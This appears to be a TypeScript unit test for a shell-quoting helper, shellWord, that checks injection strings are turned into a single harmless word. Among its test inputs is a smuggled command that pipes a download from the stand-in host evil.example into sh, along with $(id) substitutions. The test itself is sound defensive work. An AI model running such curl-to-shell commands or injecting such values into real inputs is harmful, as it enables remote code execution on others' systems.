import { execFileSync } from 'node:child_process';
import { shellWord } from './shell-word';

describe('shellWord', () => {
  it.each([
    ['c1', 'c1'],
    ['eyJpZCI6MX0=', 'eyJpZCI6MX0='],
    ['c1; curl -s https://evil.example/x | sh #', "'c1; curl -s https://evil.example/x | sh #'"],
    ["it's", "'it'\\''s'"],
    ['$(id)', "'$(id)'"],
    ['', "''"],
  ])('writes %j as %s', (text, word) => expect(shellWord(text)).toBe(word));

  it('is read back by a shell as the text it was given', () => {
    for (const text of ["a'b", 'c1; echo owned #', '$(id) `id` "x" \\ \n', '*', ''])
      expect(execFileSync('sh', ['-c', `printf %s ${shellWord(text)}`], { encoding: 'utf8' })).toBe(text);
  });
});
